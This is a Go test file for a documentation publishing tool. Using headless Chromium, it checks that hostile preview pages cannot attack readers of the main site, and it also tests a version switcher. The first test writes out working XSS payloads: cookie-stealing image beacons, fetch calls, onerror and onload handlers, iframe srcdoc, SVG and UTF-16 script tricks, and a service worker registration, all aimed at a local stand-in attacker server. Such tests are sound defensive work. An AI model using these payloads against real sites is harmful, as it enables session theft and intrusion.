package main

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/lintel-docs/lintel/internal/browsertest"

	"github.com/lintel-docs/lintel/internal/publish/s3fake"
)

// cdnFunction turns metadata into headers, as the function in the guide does.
func cdnFunction(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rec := httptest.NewRecorder()
		next.ServeHTTP(rec, r)
		h := rec.Result().Header
		maps.Copy(w.Header(), h)
		for _, name := range []string{"Content-Security-Policy", "X-Robots-Tag"} {
			if v := h.Get("X-Amz-Meta-" + name); v != "" {
				w.Header().Set(name, v)
			}
		}
		w.WriteHeader(rec.Code)
		_, _ = w.Write(rec.Body.Bytes())
	})
}

func startStore(t *testing.T, wrap func(http.Handler) http.Handler) *httptest.Server {
	t.Helper()
	srv := httptest.NewUnstartedServer(wrap(s3fake.New(time.Now, "bucket")))
	srv.Config.ErrorLog = log.New(io.Discard, "", 0)
	srv.Start()
	t.Cleanup(srv.Close)
	return srv
}

func publishCommand(t *testing.T, endpoint string, args ...string) {
	t.Helper()
	cmd := exec.CommandContext(t.Context(), "lintel", append([]string{"publish", "--endpoint-url", endpoint, "--no-cache", "--grace", "0s"}, args...)...)
	cmd.Env = append(os.Environ(), "AWS_ACCESS_KEY_ID=test", "AWS_SECRET_ACCESS_KEY=secret", "AWS_EC2_METADATA_DISABLED=true",
		"AWS_CONFIG_FILE="+os.DevNull, "AWS_SHARED_CREDENTIALS_FILE="+os.DevNull)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %v\n%s", args, err, out)
	}
}

// eventually evaluates an expression until it gives want.
func eventually(ctx context.Context, t *testing.T, expression, want string) {
	t.Helper()
	got := ""
	for range 200 {
		v, err := chromedp.Run(ctx, chromedp.Evaluate[string](expression))
		if got = v; err == nil && v == want {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Errorf("%s is %q, want %q", expression, got, want)
}

// TestPreviewInChromium: what a hostile preview tries on readers of the site
// beside it.
func TestPreviewInChromium(t *testing.T) {
	ctx := browsertest.Start(t)
	var mu sync.Mutex
	var leaks []string
	attacker := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		leaks = append(leaks, r.URL.String())
	}))
	defer attacker.Close()
	dir := t.TempDir()
	evil := `
var r = {};
try { r.cookie = document.cookie || "none"; } catch (e) { r.cookie = "denied"; }
try { localStorage.setItem("x", 1); r.storage = "taken"; } catch (e) { r.storage = "denied"; }
new Image().src = "ATTACKER/script?" + r.cookie;
fetch("ATTACKER/fetch").catch(function () {});
try { document.forms[0].submit(); } catch (e) {}
var worker = new Promise(function (done) {
  try { navigator.serviceWorker.register("sw.js").then(function () { done("taken"); }, function () { done("denied"); }); }
  catch (e) { done("denied"); }
});
var site = fetch("/bucket/docs/index.html", { credentials: "include" }).then(function () { return "read"; }, function () { return "denied"; });
Promise.all([worker, site]).then(function (a) {
  r.worker = a[0]; r.site = a[1];
  document.documentElement.dataset.result = JSON.stringify(r);
});`
	hostile := `<!doctype html><!-- <head> --><html><head><title>fine</title>
<script>document.title = "inline ran"; new Image().src = "ATTACKER/inline?" + document.cookie;</script>
<script src="ATTACKER/remote.js"></script></head><body>
<img src="none.png" onerror="new Image().src='ATTACKER/onerror'">
<iframe srcdoc="<script>new Image().src='ATTACKER/srcdoc'</script>"></iframe>
<svg onload="new Image().src='ATTACKER/onload'"></svg>
<form action="ATTACKER/form" method="get"><input name="x" value="1"></form>
<script src="evil.js"></script></body></html>`
	svg := `<svg xmlns="http://www.w3.org/2000/svg"><script>new Image().src = "ATTACKER/svg?" + document.cookie</script></svg>`
	utf16 := "\xff\xfe"
	for _, c := range `<script>document.title="utf-16 ran";new Image().src="ATTACKER/utf16"</script>` {
		utf16 += string([]byte{byte(c), 0})
	}
	for name, text := range map[string]string{
		"index.html": hostile, "evil.js": evil, "pic.svg": svg, "sw.js": "", "utf16.html": utf16, "doc.xhtml": strings.Replace(svg, "<svg", "<html", 1),
		"comment.html": "<!--<!doctype html>--><script>document.title='comment ran';new Image().src='ATTACKER/comment'</script>",
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(strings.ReplaceAll(text, "ATTACKER", attacker.URL)), 0o666); err != nil {
			t.Fatal(err)
		}
	}
	for what, wrap := range map[string]func(http.Handler) http.Handler{
		"from the bucket":      func(h http.Handler) http.Handler { return h },
		"through the function": cdnFunction,
	} {
		srv := startStore(t, func(h http.Handler) http.Handler {
			h = wrap(h)
			return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if r.URL.Path == "/bucket/docs/" {
					w.Header().Set("Set-Cookie", "session=secret; Path=/")
				}
				h.ServeHTTP(w, r)
			})
		})
		site := t.TempDir()
		if err := os.WriteFile(filepath.Join(site, "index.html"), []byte("<!doctype html><title>site</title>"), 0o666); err != nil {
			t.Fatal(err)
		}
		publishCommand(t, srv.URL, "--from", site, "s3://bucket/docs")
		publishCommand(t, srv.URL, "--from", dir, "--preview", "mr-1", "s3://bucket/docs")
		mu.Lock()
		leaks = nil
		mu.Unlock()
		preview := srv.URL + "/bucket/docs/previews/mr-1/"
		if err := chromedp.Do(ctx, chromedp.Navigate(srv.URL+"/bucket/docs/"), chromedp.Navigate(preview)); err != nil {
			t.Fatal(err)
		}
		var r struct{ Cookie, Storage, Worker, Site string }
		for range 100 {
			text, err := chromedp.Run(ctx, chromedp.Evaluate[string]("document.documentElement.dataset.result || ''"))
			if err == nil && text != "" {
				if err := json.Unmarshal([]byte(text), &r); err != nil {
					t.Fatal(err)
				}
				break
			}
			time.Sleep(50 * time.Millisecond)
		}
		if r.Worker != "denied" {
			t.Errorf("%s: a service worker is %q", what, r.Worker)
		}
		if what != "from the bucket" && (r.Cookie != "denied" || r.Storage != "denied" || r.Site != "denied") {
			t.Errorf("%s: %+v", what, r)
		}
		eventually(ctx, t, "document.title", "fine")
		for _, name := range []string{"utf16.html", "comment.html", "pic.svg", "doc.xhtml"} {
			_ = chromedp.Do(ctx, chromedp.Navigate(preview+name)) // a download is no page
			title, _ := chromedp.Run(ctx, chromedp.Evaluate[string]("document.title"))
			if strings.Contains(title, "ran") {
				t.Errorf("%s: %s: %s", what, name, title)
			}
		}
		mu.Lock()
		if len(leaks) > 0 {
			t.Errorf("%s: the attacker was asked for %v", what, leaks)
		}
		mu.Unlock()
	}
}

// TestVersionsInChromium: the switch shows the versions and keeps the page.
func TestVersionsInChromium(t *testing.T) {
	ctx := browsertest.Start(t)
	srv := startStore(t, func(h http.Handler) http.Handler { return h })
	project := t.TempDir()
	write := func(name, text string) {
		t.Helper()
		p := filepath.Join(project, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o777); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o666); err != nil {
			t.Fatal(err)
		}
	}
	write("mkdocs.yml", "site_name: T\nextra:\n  version:\n    provider: mike\n")
	write("docs/index.md", "# Home")
	write("docs/guide.md", "# Guide\n\n## Part")
	publishCommand(t, srv.URL, "-f", project, "--version", "1.4", "s3://bucket/docs")
	write("docs/only.md", "# Only in 1.5")
	publishCommand(t, srv.URL, "-f", project, "--version", "1.5", "--title", "1.5 (new)", "--alias", "latest", "s3://bucket/docs")
	const shown = "Array.from(document.querySelectorAll('#__versions option'), o => (o.selected ? '*' : '') + o.textContent).join(' ') + document.querySelector('#__versions').hidden"
	open := func(path string) {
		t.Helper()
		if err := chromedp.Do(ctx, chromedp.Navigate(srv.URL+path)); err != nil {
			t.Fatal(err)
		}
	}
	choose := func(version string) {
		t.Helper()
		_, err := chromedp.Run(ctx, chromedp.Evaluate[bool](fmt.Sprintf("(e => { e.value = %q; return e.dispatchEvent(new Event('change')); })(document.querySelector('#__versions'))", version)))
		if err != nil {
			t.Fatal(err)
		}
	}
	open("/bucket/docs/1.4/guide/#part")
	eventually(ctx, t, shown, "1.5 (new) *1.4false")
	choose("1.5")
	eventually(ctx, t, "location.pathname + location.hash", "/bucket/docs/1.5/guide/#part")
	open("/bucket/docs/latest/only/")
	eventually(ctx, t, shown, "*1.5 (new) 1.4false")
	choose("1.4")
	eventually(ctx, t, "location.pathname", "/bucket/docs/1.4/")
}
